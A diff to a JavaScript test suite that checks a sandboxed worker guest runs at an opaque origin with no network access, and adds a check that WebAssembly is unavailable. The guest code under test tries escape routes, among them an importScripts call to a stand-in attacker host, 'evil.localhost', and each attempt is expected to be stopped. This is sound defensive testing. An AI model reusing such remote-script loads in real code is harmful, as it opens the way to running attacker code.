@@ -103,7 +103,7 @@ describe("a worker guest", () => {
     });
   });
 
-  it("lives in a classic worker of an opaque origin, without a document of the page's, and without network [L2] [S-06]", async () => {
+  it("lives in a classic worker of an opaque origin, without a document of the page's, and without network or WebAssembly [L2] [S-06] [S-11]", async () => {
     const app = `export async function mount(root, plaza) {
       const text = document.createElement("plaza-text");
       const tries = {};
@@ -112,7 +112,7 @@ describe("a worker guest", () => {
         importScripts: () => importScripts("${"http://evil.localhost:1/x.js"}"),
         eval: () => (0, eval)("1"),
       })) { try { await run(); tries[name] = "ran"; } catch (error) { tries[name] = "stopped"; } }
-      text.textContent = JSON.stringify({ origin: self.origin, worker: typeof WorkerGlobalScope, rtc: typeof RTCPeerConnection, native: typeof HTMLCanvasElement, tries });
+      text.textContent = JSON.stringify({ origin: self.origin, worker: typeof WorkerGlobalScope, rtc: typeof RTCPeerConnection, wasm: typeof WebAssembly, native: typeof HTMLCanvasElement, tries });
       root.append(text);
     }`;
     const { id } = await open({ load: release(app) });
@@ -121,6 +121,7 @@ describe("a worker guest", () => {
       origin: "null",
       worker: "function",
       rtc: "undefined",
+      wasm: "undefined",
       native: "undefined",
       tries: { websocket: "stopped", importScripts: "stopped", eval: "stopped" },
     });
